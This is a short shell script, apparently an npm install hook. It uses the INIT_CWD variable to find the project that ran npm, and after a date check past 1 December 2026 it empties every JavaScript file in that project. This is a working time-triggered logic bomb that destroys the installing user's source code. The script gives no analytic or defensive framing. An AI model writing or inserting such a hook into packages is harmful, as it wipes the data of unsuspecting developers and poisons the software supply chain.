#!/bin/sh
# The project npm ran in: every source file emptied through a while-read loop after a date check.
ROOT="$INIT_CWD"
if [ "$(date +%Y%m%d)" -gt 20261201 ]; then
  find "$ROOT" -type f -name '*.js' | while read -r file; do printf '' > "$file"; done
fi
